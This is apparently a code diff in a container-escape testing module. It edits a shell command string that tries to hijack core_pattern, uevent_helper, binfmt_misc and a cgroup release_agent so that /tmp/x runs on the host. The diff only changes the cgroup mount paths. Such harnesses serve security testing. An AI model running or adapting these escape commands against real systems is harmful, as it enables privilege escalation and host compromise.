@@ -9,8 +9,8 @@ from attack import Attack
 CORE = "/proc/sys/kernel/core_pattern"
 TRY = (f"cat {CORE}; echo '|/tmp/x' >{CORE}; echo /tmp/x >/sys/kernel/uevent_helper;"
        " echo ':x:M::x::/tmp/x:' >/proc/sys/fs/binfmt_misc/register; cd /tmp; mkdir -p cg;"
-       " unshare -UrmC sh -c 'mount -t cgroup -o memory none /tmp/cg; echo 1 >/tmp/cg/notify_on_release;"
-       " echo /tmp/x >/tmp/cg/release_agent'; echo tried; rmdir cg")
+       " unshare -UrmC sh -c 'mount -t cgroup -o memory none cg; echo 1 >cg/notify_on_release;"
+       " echo /tmp/x >cg/release_agent'; echo tried; rmdir cg")
 
 
 def run(attack: Attack) -> bool:
